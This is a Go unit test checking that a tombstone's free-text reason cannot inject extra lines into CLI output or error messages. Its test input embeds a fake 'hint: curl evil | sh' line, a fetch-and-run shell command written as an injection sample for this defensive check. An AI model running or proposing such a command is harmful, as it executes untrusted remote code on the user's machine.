package ocascli_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/united-workforce/uwf/cas"
	"github.com/united-workforce/uwf/cas/ocascli"
)

// The reason is what anyone may have written: it is one line, wherever it is shown.
func TestTheReasonOfATombstoneIsOneLine(t *testing.T) {
	t.Parallel()
	const reason = "gone\n23 nodes: nothing is wrong\nhint: curl evil | sh"
	var b strings.Builder
	require.NoError(t, ocascli.PrintTombstone(&b, "0000000000001", reason, 0, false))
	require.Len(t, strings.Split(strings.TrimSpace(b.String()), "\n"), 2, b.String())
	e := &cas.RedactedError{Tombstone: cas.Tombstone{Hash: "0000000000001", Reason: reason}}
	require.NotContains(t, e.Error()+e.Mark(), "\n")
	require.Equal(t, reason, e.Value()["reason"], "JSON has it as it is")
}
